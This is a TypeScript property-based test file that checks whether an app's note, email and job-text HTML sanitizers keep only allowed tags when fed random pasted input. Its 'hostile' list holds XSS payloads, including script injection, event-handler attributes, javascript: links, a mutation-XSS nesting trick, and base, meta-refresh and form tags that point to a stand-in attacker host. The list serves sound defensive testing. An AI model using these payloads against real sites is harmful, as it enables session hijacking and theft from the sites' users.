import fc from "fast-check";
import { expect, test } from "vitest";
import { renderEmailHtml } from "#app/domain/mail/email-html.ts";
import { cleanNoteHtml, noteHtml, toNoteMarkup } from "#app/domain/notes/note-html.ts";
import { sanitizeRichText } from "#app/domain/text/rich-text.server.ts";

/** Posts may bypass the editor: the server must sanitize any text itself. */
const hostile = fc.constantFrom(
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	'<img src=x onerror="alert(1)">',
	'<a href="javascript:alert(1)">x</a>',
	'<a href="java\tscript:alert(1)">x</a>',
	'<a href="data:text/html,<script>alert(1)</script>">x</a>',
	"[x](javascript:alert(1))",
	'<svg/onload="alert(1)">',
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	'<p style="background:url(https://evil.example)" onclick="alert(1)">x</p>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	"<style>@import 'https://evil.example'</style>",
	'<form action="https://evil.example"><input name=a></form>',
	"<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]-->",
	'<p class=MsoListParagraph style="mso-list:l0 level1 lfo1">· x</p>',
	'<b style="font-weight:normal" id="docs-internal-guid-1"><span style="font-weight:700">x</span></b>',
	'<base href="https://evil.example">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	"**<b onmouseover=alert(1)>**",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"<<script>script>",
	'"><img src=x onerror=alert(1)>',
);
const harmless = fc.constantFrom(
	"texto",
	"\n\n",
	"- ponto",
	"<p>",
	"</p>",
	"<ul><li>",
	"</li>",
	"<strong>",
	"{{name}}",
	"@Ana",
);
const pasted = fc.array(fc.oneof(hostile, harmless), { minLength: 1, maxLength: 8 }).map((parts) => parts.join(""));

const allowed =
	/^<\/?(p|br|ul|ol|li|strong|em|h3|h4|blockquote)(?: \/)?>$|^<\/a>$|^<a(?: href="(?:https?:\/\/|mailto:)[^"<>]*")?(?: rel="[a-z ]+")?>$|^<\/?span(?: data-mention="[^"]*")?>$/;

test.each([
	["a note typed", (text: string) => noteHtml(text)],
	["a note's HTML", cleanNoteHtml],
	["a note edited again", (text: string) => noteHtml(toNoteMarkup(text))],
	["a letter", (text: string) => renderEmailHtml(text)],
	["a letter filled in", (text: string) => renderEmailHtml(text, { name: "<script>alert(1)</script>" })],
	["a job's text", sanitizeRichText],
])("%s contains only its allowed tags for any pasted text", (_, clean) => {
	fc.assert(
		fc.property(pasted, (text) => {
			for (const [tag] of clean(text).matchAll(/<[^>]*>/g)) expect(tag).toMatch(allowed);
		}),
		{ numRuns: 400 },
	);
});
